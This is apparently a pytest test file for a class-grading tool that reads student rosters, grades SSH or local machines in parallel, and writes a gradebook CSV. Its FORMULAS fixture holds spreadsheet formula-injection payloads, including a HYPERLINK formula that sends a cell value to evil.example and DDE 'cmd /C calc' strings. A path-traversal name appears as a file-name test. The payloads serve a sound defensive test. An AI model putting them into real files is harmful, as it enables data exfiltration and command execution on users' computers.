"""`python -m lab.grade`: a roster read or refused line by line, students graded at
once with one's fault or hang never holding up the others, and the gradebook."""

import contextlib
import csv
import json
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from lab import Registry
from lab.engine.context import Settings
from lab.grade import main
from lab.tools.gradebook import grade_row, gradebook
from lab.tools.grading import Progress, grade_all
from lab.tools.roster import RosterError, Student, read_roster, safe_name
from lab.core.manifest import Step
from lab.engine.results import check_results
from lab.engine.runner import PrintCapture
from tests.support.localservers import REPO, free_port

COURSE = Path(__file__).parent / "fixtures" / "course"


def write_roster(folder, text):
    path = folder / "roster.csv"
    path.write_text(text, encoding="utf-8")
    return path


def lab_grade(*args, cwd, timeout=60):
    run = subprocess.run([sys.executable, "-m", "lab.grade", *args], cwd=cwd, capture_output=True, text=True,
                         timeout=timeout, env={**os.environ, "PYTHONPATH": str(REPO), "PYTHONIOENCODING": "utf-8"})
    assert "Traceback" not in run.stdout + run.stderr
    return run


def read_book(path):
    raw = path.read_bytes()
    assert raw.startswith("\ufeff".encode()), "no BOM: Excel on Windows would misread the names"
    with open(path, newline="", encoding="utf-8-sig") as f:
        reader = csv.DictReader(f)
        return reader.fieldnames, {row["student"]: row for row in reader}


# --- the roster -----------------------------------------------------------------------------

@pytest.mark.unit
def test_roster_keeps_its_own_columns_in_order(tmp_path):
    path = write_roster(tmp_path, "\ufeffStudent, guest ,section\n"
                                  "alice,local://,A\n"
                                  "\n"
                                  '"O\'Neil, Carol",ssh://me@10.0.0.5:2222?key=/k,"B, late"\n')
    header, students = read_roster(path)
    assert header == ["Student", "guest", "section"]
    assert [(s.name, s.guest, s.line, s.folder) for s in students] == [
        ("alice", "local://", 2, "alice"), ("O'Neil, Carol", "ssh://me@10.0.0.5:2222?key=/k", 4, "O_Neil__Carol")]
    assert students[1].columns == {"Student": "O'Neil, Carol", "guest": "ssh://me@10.0.0.5:2222?key=/k",
                                   "section": "B, late"}


@pytest.mark.unit
@pytest.mark.parametrize("text, error", [
    ("", "roster.csv:1: the file is empty"),
    ("\n\n", "roster.csv:1: the file is empty"),
    ("student,url\nalice,local://\n", "roster.csv:1: the header has no 'guest' column"),
    ("name,url\n", "roster.csv:1: the header has no 'student' and no 'guest' column"),
    ("student,guest,Guest\n", "roster.csv:1: the header has the column 'Guest' twice"),
    ("student,guest,\n", "roster.csv:1: column 3 of the header has no name"),
    ("student,guest,total\n", "roster.csv:1: the column 'total' is one the gradebook writes itself"),
    ("student,guest,good\n", "roster.csv:1: the column 'good' is one the gradebook writes itself"),
    ("student,guest\n", "roster.csv:1: no students below the header"),
    ("student,guest\nalice,local://\n\nalice,local://\n", "roster.csv:4: 'alice' is already on line 2"),
    ("student,guest\nalice,vagrant://default\n", "roster.csv:2: alice's guest is vagrant://default: "
                                                 "a class is graded over SSH"),
    ("student,guest\nalice,ftp://host\n", "roster.csv:2: alice: unknown guest address 'ftp://host'"),
    ("student,guest\nalice,ssh://me@host:99999\n", "roster.csv:2: alice: the guest address "
                                                   "'ssh://me@host:99999': the port '99999' is not a number"),
    ("student,guest\nalice,ssh://?key=k\n", "roster.csv:2: alice: the guest address 'ssh://?key=k' names no host"),
    ("student,guest\nalice,\n", "roster.csv:2: alice has no guest address"),
    ("student,guest\n ,local://\n", "roster.csv:2: no student name"),
    ("student,guest\nalice,local://,A\n", "roster.csv:2: 3 values, but the header has 2 columns"),
    ("student,guest\n...,local://\n", "roster.csv:2: '...' makes no usable file name"),
    ("student,guest\nBob,local://\nbob,local://\n", "roster.csv:3: 'bob' and 'Bob' (line 2) would share "
                                                    "the file name 'bob'"),
    ("student,guest\na b,local://\na_b,local://\n", "roster.csv:3: 'a_b' and 'a b' (line 2) would share"),
    ("student,guest\ngradebook.csv,local://\n", "roster.csv:2: 'gradebook.csv' and the gradebook.csv file"),
    ('student,guest\nbob,local://\n"alice,local://\n', "roster.csv:3: not CSV this tool can read "
                                                        "(unexpected end of data); is a double quote left open?"),
])
def test_a_bad_roster_is_one_line_naming_the_row(tmp_path, text, error):
    path = write_roster(tmp_path, text)
    with pytest.raises(RosterError) as raised:
        read_roster(path, reserved=["good", "total"])
    message = str(raised.value)
    assert message.startswith(str(tmp_path)) and error in message and "\n" not in message


@pytest.mark.unit
def test_a_roster_that_is_not_utf8_or_not_there(tmp_path):
    (tmp_path / "roster.csv").write_bytes(b"student,guest\ncaf\xe9,local://\n")
    with pytest.raises(RosterError, match="not UTF-8 text; save it as CSV UTF-8"):
        read_roster(tmp_path / "roster.csv")
    with pytest.raises(RosterError, match="there is no such file"):
        read_roster(tmp_path / "nobody.csv")


@pytest.mark.unit
@pytest.mark.parametrize("name, safe", [
    ("alice", "alice"), ("Carol O'Neil", "Carol_O_Neil"), ("José", "José"), ("../etc/passwd", "_etc_passwd"),
    (".hidden", "hidden"), ("-rf", "rf"), ("CON", "_CON"), ("nul.txt", "_nul.txt"), ("//", ""), ("..", ""),
])
def test_safe_file_names(name, safe):
    assert safe_name(name) == safe


@pytest.mark.unit
def test_cli_errors_are_one_line_and_exit_2(tmp_path, capsys):
    roster = write_roster(tmp_path, "student,guest\nalice,local://\nalice,local://\n")
    assert main([str(roster), "--course", str(COURSE), "--out", str(tmp_path / "out")]) == 2
    err = capsys.readouterr().err
    assert err == f"lab.grade: {roster}:3: 'alice' is already on line 2; give each student one row\n"
    assert not (tmp_path / "out").exists()  # nothing is graded or written from a bad roster

    roster = write_roster(tmp_path, "student,guest\nalice,local://\n")
    assert main([str(roster), "--course", str(COURSE), "--only", "alice,zoe"]) == 2
    assert capsys.readouterr().err == f"lab.grade: --only: {roster} has no student 'zoe'\n"
    assert main([str(roster), "--course", str(COURSE), "--steps", "good,nope"]) == 2
    assert capsys.readouterr().err.startswith("lab.grade: there is no step 'nope'")


# --- grading several students at once ------------------------------------------------------

def make_step(step_id, *checks):
    for check in checks:
        check.step = step_id
    return Step(step_id, f"step {step_id}", Path(), Path(), Path(), Path(), checks=list(checks))


def run_class(students, step, jobs, timeout, tmp_path):
    wanted = list(step.checks)
    return dict((s.name, r) for s, r in grade_all(
        students, lambda s: Settings(root=tmp_path, guest_url=s.guest), [step], {step.id: wanted}, wanted,
        jobs, timeout))


def local_students(*names):
    return [Student(n, "local://", {"student": n, "guest": "local://"}, i + 2, n) for i, n in enumerate(names)]


@pytest.mark.unit
def test_a_hung_student_is_cut_off_and_their_run_stops_at_the_next_check(tmp_path):
    ran_after = []
    check = Registry()

    @check(timeout=10)
    def slow_for_some(ctx):
        """a check that hangs on one guest"""
        if ctx.settings.guest_url.endswith("hang"):
            time.sleep(1.0)

    @check
    def after(ctx):
        """a check after it"""
        ran_after.append(ctx.settings.guest_url)

    step = make_step("hang", *check)
    students = local_students("alice", "bob", "carol")
    students[1].guest = "local://?http=http://hang"  # a distinct, valid address
    started = time.monotonic()
    reports = run_class(students, step, jobs=3, timeout=0.4, tmp_path=tmp_path)
    assert time.monotonic() - started < 0.9  # the others did not wait for bob's hung check
    assert reports["bob"].fault.startswith("did not finish within 0.4 s")
    assert reports["alice"].fault is None and reports["alice"].score == 2
    time.sleep(1.2)  # bob's hung check ends by now; his run, told to stop, runs no more checks
    assert sorted(ran_after) == ["local://", "local://"]


@pytest.mark.unit
def test_parallel_students_keep_their_prints_apart(tmp_path, capsys):
    check = Registry()

    @check
    def chatty(ctx):
        """a check that prints"""
        for n in range(50):
            print(f"{ctx.settings.guest_url} line {n}")
            time.sleep(0.001)

    step = make_step("chat", *check)
    students = local_students(*(f"s{n}" for n in range(12)))
    for n, student in enumerate(students):
        student.guest = f"local://?http=http://s{n}"  # distinct, valid addresses
    reports = run_class(students, step, jobs=12, timeout=30, tmp_path=tmp_path)
    for student in students:
        assert reports[student.name].steps[0].results[0].log == [f"{student.guest} line {n}" for n in range(50)]
    assert capsys.readouterr().out == ""
    assert not isinstance(sys.stdout, PrintCapture)  # gone once every check has ended


@pytest.mark.unit
def test_a_check_whose_thread_starts_late_still_prints_into_its_log(tmp_path, capsys, monkeypatch):
    # A machine busy grading a class may start a check's thread late: later than its timeout.
    capture_into = PrintCapture.into

    @contextlib.contextmanager
    def late(self, log):
        time.sleep(0.1)
        with capture_into(self, log):
            yield

    monkeypatch.setattr(PrintCapture, "into", late)
    check = Registry()

    @check(timeout=0.01)
    def abandoned(ctx):
        """a check whose thread gets going late, then takes too long"""
        print("printed by a slow check")
        time.sleep(0.2)

    reports = run_class(local_students("alice", "bob"), make_step("late", *check), jobs=2, timeout=30,
                        tmp_path=tmp_path)
    time.sleep(0.3)
    for report in reports.values():
        result = report.steps[0].results[0]
        assert (result.status, result.log) == ("could not check", ["printed by a slow check"])
    assert capsys.readouterr().out == ""
    assert not isinstance(sys.stdout, PrintCapture)


# --- the gradebook --------------------------------------------------------------------------

def results_of(fault=None, steps=()):
    return {"score": sum(s["score"] for s in steps), "max_score": sum(s["max_score"] for s in steps),
            "fault": fault, "steps": list(steps)}


def step_entry(step_id, score, max_score, statuses=("passed",), **extra):
    return {"id": step_id, "score": score, "max_score": max_score, **extra,
            "checks": [{"name": f"c{n}", "step": step_id, "status": s, "rationale": f"why {n}"}
                       for n, s in enumerate(statuses)]}


@pytest.mark.unit
def test_grade_row_reads_kit_solved_when_there_and_notes_checks_not_checked():
    row = grade_row(results_of(steps=[step_entry("step1", 5, 7, ("passed", "could not check"), kit_solved=True),
                                      step_entry("step2", 0, 3, ("not applicable",), kit_solved=False),
                                      step_entry("step3", 2, 2)]),
                    ["step1", "step2", "step3", "step4"], 99)
    assert row == {"step1": 5, "step2": 0, "step3": 2, "step4": "", "total": 7, "max": 12, "status": "graded",
                   "reason": "1 check could not be checked, first step1.c1: why 1", "kit_solved": "step1"}
    counted = grade_row(results_of(steps=[step_entry("step1", 7, 7, kit_solved="2026-11-21T08:30:00Z",
                                                   kit_policy="count")]), ["step1"], 7)
    assert counted["kit_solved"] == ""  # the course counts them as the student's own: no flag
    row = grade_row(results_of(fault="SSH at h:22 refused the connection"), ["step1"], 7)
    assert row == {"step1": "", "total": "", "max": 7, "status": "could not check",
                   "reason": "SSH at h:22 refused the connection", "kit_solved": ""}


@pytest.mark.unit
def test_regrading_some_keeps_the_other_rows():
    header = ["student", "guest", "section"]
    students = local_students("alice", "bob")
    students[0].columns["section"], students[1].columns["section"] = "A2", "B"
    old_rows = {"alice": {"student": "alice", "guest": "local://", "section": "A", "step1": "5", "total": "5"},
                "zoe": {"student": "zoe", "guest": "ssh://z@h", "section": "C", "step1": "1", "total": "1"}}
    old_header = ["student", "guest", "section", "step1", "total", "max", "status", "reason", "kit_solved"]
    columns, rows = gradebook(header, students, {"bob": {"step2": 3, "total": 3}}, old_header, old_rows,
                              ["step2"], ["step1", "step2"], keep_others=True)
    assert columns == header + ["step1", "step2", "total", "max", "status", "reason", "kit_solved"]
    assert [(r["student"], r.get("section"), r.get("step1"), r.get("step2"), r["total"]) for r in rows] == [
        ("alice", "A2", "5", None, "5"), ("bob", "B", None, 3, 3), ("zoe", "C", "1", None, "1")]
    columns, rows = gradebook(header, students, {"bob": {"step2": 3}}, old_header, old_rows, ["step2"],
                              ["step1", "step2"], keep_others=False)
    assert columns == header + ["step2", "total", "max", "status", "reason", "kit_solved"]
    assert [r["student"] for r in rows] == ["bob"]


@pytest.mark.unit
def test_progress_rewrites_one_line_on_a_terminal_and_prints_lines_elsewhere():
    class Stream:
        def __init__(self, tty):
            self.text, self.tty = "", tty

        def write(self, text):
            self.text += text

        def flush(self):
            pass

        def isatty(self):
            return self.tty

    alice, bob = local_students("alice", "bob")
    for tty in (True, False):
        stream = Stream(tty)
        progress = Progress(stream, 2)
        progress.start()
        progress.finished(alice, results_of(fault="SSH at h:22 refused the connection"))
        progress.finished(bob, results_of(steps=[step_entry("step1", 5, 7)]))
        progress.end()
        if tty:
            assert stream.text == ("\rgraded 0/2, 0 could not be checked\rgraded 1/2, 1 could not be checked"
                                   "\rgraded 2/2, 1 could not be checked\n")
        else:
            assert stream.text == ("[1/2] alice: could not check: SSH at h:22 refused the connection\n"
                                   "[2/2] bob: 5/7 points\n")


# --- the real command against real guests ---------------------------------------------------

@pytest.fixture
def silent_listener(listening_port):
    """An address that accepts TCP connections and never says a word: a hung SSH server."""
    return listening_port


@pytest.mark.server
def test_a_class_over_ssh_and_local(tmp_path, sshd):
    closed = free_port()
    roster = write_roster(tmp_path, "student,guest,section\n"
                                    f"bob,{sshd.url()},B\n"
                                    "alice,local://,A\n"
                                    f"carol,ssh://root@127.0.0.1:{closed}?key={sshd.key},A\n")
    run = lab_grade(str(roster), "--course", str(COURSE), "--steps", "good,mixed", "--jobs", "3", cwd=tmp_path)
    assert run.returncode == 2, run.stderr  # carol could not be checked
    columns, rows = read_book(tmp_path / "grades" / "gradebook.csv")
    assert columns == ["student", "guest", "section", "good", "mixed", "total", "max", "status", "reason",
                       "kit_solved"]
    assert list(rows) == ["bob", "alice", "carol"]  # roster order, whoever finished first
    for name in ("bob", "alice"):
        assert rows[name] | {"guest": ""} == {"student": name, "guest": "", "section": name[0].upper(), "good": "6",
                                              "mixed": "1", "total": "7", "max": "12", "status": "graded",
                                              "reason": "", "kit_solved": ""}
    assert rows["carol"]["status"] == "could not check" and rows["carol"]["total"] == ""
    assert rows["carol"]["reason"] == f"SSH at 127.0.0.1:{closed} refused the connection: is the machine running?"

    folder = tmp_path / "grades" / "bob"
    results = check_results(json.loads((folder / "results.json").read_text(encoding="utf-8")))
    assert results["score"] == 7 and results["guest"] == f"root@127.0.0.1:{sshd.port}"
    assert json.loads((folder / "gradescope.json").read_text(encoding="utf-8"))["score"] == 7
    assert "<html" in (folder / "report.html").read_text(encoding="utf-8")
    assert "refused the connection" in (tmp_path / "grades" / "carol" / "gradescope.json").read_text()
    assert not list((tmp_path / "grades").rglob("*.tmp"))
    assert run.stdout.splitlines()[-1] == "2 graded, 1 could not be checked, of 3: grades/gradebook.csv"


@pytest.mark.server
def test_a_hung_server_is_cut_off_by_its_deadline_while_the_others_finish(tmp_path, silent_listener, sshd):
    roster = write_roster(tmp_path, "student,guest\n"
                                    f"hung,ssh://root@127.0.0.1:{silent_listener}?key={sshd.key}\n"
                                    "alice,local://\n"
                                    f"bob,{sshd.url()}\n")
    started = time.monotonic()
    run = lab_grade(str(roster), "--course", str(COURSE), "--steps", "good", "--timeout", "2", cwd=tmp_path)
    # paramiko would wait 10 s for the banner; the student's deadline and the exit come first.
    assert time.monotonic() - started < 6
    assert run.returncode == 2
    assert run.stderr == ""  # paramiko says nothing of the banner it gave up on at exit
    _, rows = read_book(tmp_path / "grades" / "gradebook.csv")
    assert rows["hung"]["status"] == "could not check"
    assert rows["hung"]["reason"].startswith("did not finish within 2 s")
    assert [rows[n]["status"] for n in ("alice", "bob")] == ["graded", "graded"]
    assert "[1/3] alice: 6/6 points" in run.stdout or "[1/3] bob: 6/6 points" in run.stdout


@pytest.mark.server
def test_a_server_that_hangs_up_before_the_banner_is_one_reason_and_no_noise(tmp_path):
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        sock.listen(8)

        def hang_up():
            while True:
                try:
                    sock.accept()[0].close()
                except OSError:  # the test is over and closed the socket
                    return

        threading.Thread(target=hang_up, daemon=True).start()
        port = sock.getsockname()[1]
        roster = write_roster(tmp_path, f"student,guest\nalice,local://\nbob,ssh://root@127.0.0.1:{port}\n")
        run = lab_grade(str(roster), "--course", str(COURSE), "--steps", "good", cwd=tmp_path)
    assert run.returncode == 2
    # paramiko logs the error in its own thread: on stderr, it would land over the progress line.
    assert run.stderr == ""
    _, rows = read_book(tmp_path / "grades" / "gradebook.csv")
    # Tried again first, as for a server that turns logins away for a moment (lab.transports.ssh).
    assert rows["bob"]["reason"].startswith(f"SSH at 127.0.0.1:{port} closed the connection before its greeting, ")
    assert rows["bob"]["reason"].endswith("is the machine still starting up? wait a minute and try again; a server "
                                          "that turns away logins when many come at once (sshd's MaxStartups) does "
                                          "this too: make fewer at once (lab.grade --jobs)")


@pytest.mark.server
def test_every_student_graded_exits_0_and_only_regrades_some(tmp_path):
    roster = write_roster(tmp_path, "student,guest\nalice,local://\nbob,local://\n")
    out = tmp_path / "grades"
    assert lab_grade(str(roster), "--course", str(COURSE), "--steps", "good", cwd=tmp_path).returncode == 0
    alice_before = (out / "alice" / "results.json").read_bytes()
    with open(out / "gradebook.csv", "a", encoding="utf-8", newline="") as f:  # a row from an earlier roster
        f.write("zoe,local://,1,1,6,graded,,\r\n")

    closed = free_port()
    roster = write_roster(tmp_path, f"student,guest\nalice,local://\nbob,ssh://root@127.0.0.1:{closed}\n")
    run = lab_grade(str(roster), "--course", str(COURSE), "--steps", "good", "--only", "bob", cwd=tmp_path)
    assert run.returncode == 2
    columns, rows = read_book(out / "gradebook.csv")
    assert list(rows) == ["alice", "bob", "zoe"]
    assert rows["alice"]["total"] == "6" and rows["alice"]["status"] == "graded"
    assert rows["bob"]["status"] == "could not check" and rows["bob"]["guest"].endswith(str(closed))
    assert rows["zoe"]["total"] == "1"
    assert (out / "alice" / "results.json").read_bytes() == alice_before  # not graded again


# --- the gradebook's max, and cells a spreadsheet would run ------------------------------------

@pytest.mark.server
def test_every_student_of_a_run_has_the_same_max(tmp_path):
    """The good step has a check of Vagrant VMs only: it counts for no student graded over
    ssh:// or local://, nor for one who could not be checked at all."""
    roster = write_roster(tmp_path, f"student,guest\nalice,local://\nbob,ssh://root@127.0.0.1:{free_port()}\n")
    run = lab_grade(str(roster), "--course", str(COURSE), "--steps", "good,mixed", cwd=tmp_path)
    assert run.returncode == 2
    _, rows = read_book(tmp_path / "grades" / "gradebook.csv")
    assert [rows[name]["status"] for name in ("alice", "bob")] == ["graded", "could not check"]
    assert rows["alice"]["max"] == rows["bob"]["max"] == "12"
    results = json.loads((tmp_path / "grades" / "alice" / "results.json").read_text(encoding="utf-8"))
    assert results["max_score"] == 12


FORMULAS = {"student": '=HYPERLINK("http://evil.example/?"&A1,"click")', "section": "+1+cmd|' /C calc'!A0",
            "email": "@SUM(1+1)*cmd|' /C calc'!A0", "note": "-2+3", "tabbed": "\t=1+1", "returned": "\r=1+1"}


def spreadsheet_cells(book, work):
    """Every cell of the CSV as LibreOffice Calc reads it (UTF-8, commas, formulas evaluated,
    as its import dialog offers), saved as .xlsx and read back with openpyxl."""
    import openpyxl

    profile = work / "libreoffice-profile"  # its own, so a LibreOffice already open elsewhere doesn't answer
    run = subprocess.run(["soffice", f"-env:UserInstallation={profile.as_uri()}", "--headless",
                          "--infilter=CSV:44,34,76,1,,,,,,,,,true", "--convert-to", "xlsx", "--outdir", str(work),
                          str(book)], capture_output=True, text=True, timeout=120)
    sheet = work / (book.stem + ".xlsx")
    assert run.returncode == 0 and sheet.exists(), run.stdout + run.stderr
    return [cell for row in openpyxl.load_workbook(sheet).active.iter_rows() for cell in row]


@pytest.mark.server
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(tmp_path):
    import pandas

    columns = list(FORMULAS)
    roster = tmp_path / "roster.csv"
    with open(roster, "w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["student", "guest", *columns[1:]])
        writer.writerow([FORMULAS["student"], "local://", *(FORMULAS[c] for c in columns[1:])])
        writer.writerow(["plain", "local://", "A", "a@example.org", "3", "x", "y"])
    assert lab_grade(str(roster), "--course", str(COURSE), "--steps", "good", cwd=tmp_path).returncode == 0
    book = tmp_path / "grades" / "gradebook.csv"
    _, rows = read_book(book)
    row = rows["'" + FORMULAS["student"]]
    assert {c: row[c] for c in columns} == {c: "'" + value for c, value in FORMULAS.items()}
    assert (row["total"], row["max"], row["status"]) == ("6", "6", "graded")
    assert {c: rows["plain"][c] for c in columns[1:]} == dict(zip(columns[1:], ["A", "a@example.org", "3", "x", "y"]))

    frame = pandas.read_csv(book, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    cells = [cell for column in frame.columns for cell in frame[column]]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]

    # LibreOffice, as a teacher opens the file: nothing from the roster becomes a formula.
    assert [f"{c.coordinate} {c.value!r}" for c in spreadsheet_cells(book, tmp_path) if c.data_type == "f"] == []

    # Graded again with --only: the student is found again under the name the roster gives.
    assert lab_grade(str(roster), "--course", str(COURSE), "--steps", "good", "--only", "plain",
                     cwd=tmp_path).returncode == 0
    _, again = read_book(book)
    assert list(again) == ["'" + FORMULAS["student"], "plain"]
    assert again["'" + FORMULAS["student"]]["section"] == "'" + FORMULAS["section"]
